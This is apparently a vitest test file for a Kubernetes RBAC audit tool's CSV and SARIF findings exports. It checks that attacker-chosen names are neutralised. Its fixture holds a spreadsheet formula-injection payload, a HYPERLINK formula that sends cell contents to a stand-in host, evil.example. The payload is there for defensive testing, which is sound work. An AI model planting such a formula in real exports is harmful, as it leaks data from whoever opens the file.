import { readFileSync } from 'node:fs';
import { buildSnapshotFromFiles, CHECKS, runAudit } from '@vigil/core';
import { createCluster, recordScan } from '@vigil/db';
import { Ajv } from 'ajv';
import addFormats from 'ajv-formats';
import { beforeAll, describe, expect, it } from 'vitest';
import { API_VERSION } from '../openapi/version.ts';
import { itemsOf, useTestApi } from '../testing/api-fixture.ts';
import { TOOL_VERSION } from '../version.ts';

const api = useTestApi('pglite');

// A subject name an attacker with RBAC write access can choose: a spreadsheet formula.
const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")';
const MANIFEST = `
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRoleBinding
metadata: { name: "+formula-binding" }
roleRef: { apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: cluster-admin }
subjects:
  - { apiGroup: rbac.authorization.k8s.io, kind: User, name: '${FORMULA}' }
  - { apiGroup: rbac.authorization.k8s.io, kind: Group, name: "@ops, \\"quoted\\"" }
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata: { name: cluster-admin }
rules: [{ apiGroups: ["*"], resources: ["*"], verbs: ["*"] }]
`;

/** RFC 4180 parsing, enough for the export: quoted fields with doubled quotes and line breaks. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i]!;
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ',') {
      row.push(cell);
      cell = '';
    } else if (ch === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else cell += ch;
  }
  return rows;
}

interface ExportedSarif {
  runs: {
    results: {
      ruleId: string;
      suppressions?: unknown[];
      locations: {
        physicalLocation: { artifactLocation: { uri: string }; region?: { startLine: number } };
        logicalLocations: { fullyQualifiedName: string }[];
      }[];
    }[];
    tool: { driver: { version: string; rules: unknown[] } };
  }[];
}

let clusterId: string;

beforeAll(async () => {
  const { handle } = api();
  const cluster = await createCluster(handle.db, {
    name: 'hostile',
    labels: { env: 'lab' },
    source: { type: 'snapshot', path: 'hostile.json' },
  });
  clusterId = cluster.id;
  const snapshot = buildSnapshotFromFiles({
    manifests: [{ name: 'hostile.yaml', text: MANIFEST }],
    clusterName: 'hostile',
  });
  const at = new Date('2026-11-26T07:00:00Z');
  const report = runAudit({ snapshot, checks: CHECKS, options: { now: at.toISOString() } });
  await recordScan(handle.db, {
    clusterId,
    slot: at.toISOString(),
    trigger: 'schedule',
    report,
    startedAt: at,
    finishedAt: at,
    snapshot,
  });
});

describe('findings exports', () => {
  it('exports the same rows as the list as RFC 4180 CSV, with formula cells defused', async () => {
    const { call, keys } = api();
    const listed = itemsOf<{ fingerprint: string }>(
      await call('get', '/v1/findings', {
        token: keys.read,
        query: { status: 'open,suppressed', limit: 500 },
      }),
    );
    const res = await call('get', '/v1/findings/export.csv', {
      token: keys.read,
      query: { status: 'open,suppressed' },
    });
    expect(res.status).toBe(200);
    expect(res.headers.get('content-disposition')).toContain('attachment');
    const [header, ...rows] = parseCsv(res.text);
    expect(header?.slice(0, 4)).toEqual(['cluster_id', 'cluster_name', 'fingerprint', 'state']);
    expect(rows.every((row) => row.length === header!.length)).toBe(true);
    expect(rows.map((row) => row[2]).sort()).toEqual(listed.map((f) => f.fingerprint).sort());
    const hostile = rows.filter((row) => row[0] === clusterId);
    expect(hostile.map((row) => row[1])).toContain('hostile');
    const subjects = hostile.map((row) => row[header!.indexOf('subject_name')]);
    expect(subjects).toContain(`'${FORMULA}`);
    expect(subjects).toContain(`'@ops, "quoted"`);
    expect(hostile.map((row) => row[header!.indexOf('resource_name')])).toContain("'+formula-binding");
    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@]/);
  });

  it('exports findings as a SARIF 2.1.0 log with one result per finding', async () => {
    const { call, keys } = api();
    const schema = JSON.parse(
      readFileSync(
        new URL('../../../cli/src/report/testdata/sarif-2.1.0-subset.schema.json', import.meta.url),
        'utf8',
      ),
    );
    const ajv = new Ajv({ allErrors: true, strict: false });
    addFormats.default(ajv);
    const validate = ajv.compile(schema);
    const res = await call('get', '/v1/findings/export.sarif', {
      token: keys.read,
      query: { status: 'open,suppressed' },
    });
    const log = res.body as ExportedSarif;
    expect(validate(log), JSON.stringify(validate.errors?.slice(0, 3))).toBe(true);
    const listed = itemsOf<{ state: string }>(
      await call('get', '/v1/findings', {
        token: keys.read,
        query: { status: 'open,suppressed', limit: 500 },
      }),
    );
    const run = log.runs[0]!;
    expect(run.tool.driver.rules).toHaveLength(CHECKS.length);
    expect(run.results).toHaveLength(listed.length);
    expect(run.results.filter((r) => r.suppressions).length).toBe(
      listed.filter((f) => f.state === 'suppressed').length,
    );
    expect(
      run.results.some((r) => r.locations[0]!.logicalLocations[0]!.fullyQualifiedName.startsWith('hostile/')),
    ).toBe(true);
  });

  it('gives every SARIF result a physical location and reports the Vigil version, not the API version', async () => {
    const { call, keys } = api();
    const res = await call('get', '/v1/findings/export.sarif', {
      token: keys.read,
      query: { clusterId, status: 'open,suppressed' },
    });
    expect(res.status).toBe(200);
    const run = (res.body as ExportedSarif).runs[0]!;
    const cliVersion = JSON.parse(
      readFileSync(new URL('../../../cli/package.json', import.meta.url), 'utf8'),
    ).version;
    expect(run.tool.driver.version).toBe(TOOL_VERSION);
    expect(run.tool.driver.version).toBe(cliVersion);
    expect(run.tool.driver.version).not.toBe(API_VERSION);
    expect(run.results.length).toBeGreaterThan(0);
    for (const result of run.results) {
      expect(result.locations.length).toBeGreaterThan(0);
      expect(result.locations[0]!.physicalLocation.artifactLocation.uri).toMatch(/^kubernetes\/hostile\//);
      expect(result.locations[0]!.physicalLocation.region).toEqual({ startLine: 1 });
    }
    // The attacker-chosen binding name stays one encoded segment.
    expect(run.results.map((r) => r.locations[0]!.physicalLocation.artifactLocation.uri)).toContain(
      'kubernetes/hostile/_cluster/ClusterRoleBinding/%2Bformula-binding.yaml',
    );
  });

  it('applies the list filters to exports', async () => {
    const { call, keys } = api();
    const res = await call('get', '/v1/findings/export.csv', {
      token: keys.read,
      query: { clusterId, severity: 'critical' },
    });
    const [, ...rows] = parseCsv(res.text);
    expect(rows.length).toBeGreaterThan(0);
    expect(rows.every((row) => row[0] === clusterId && row[4] === 'critical')).toBe(true);
    const bad = await call('get', '/v1/findings/export.csv', {
      token: keys.read,
      query: { severity: 'urgent' },
    });
    expect(bad.status).toBe(400);
  });
});
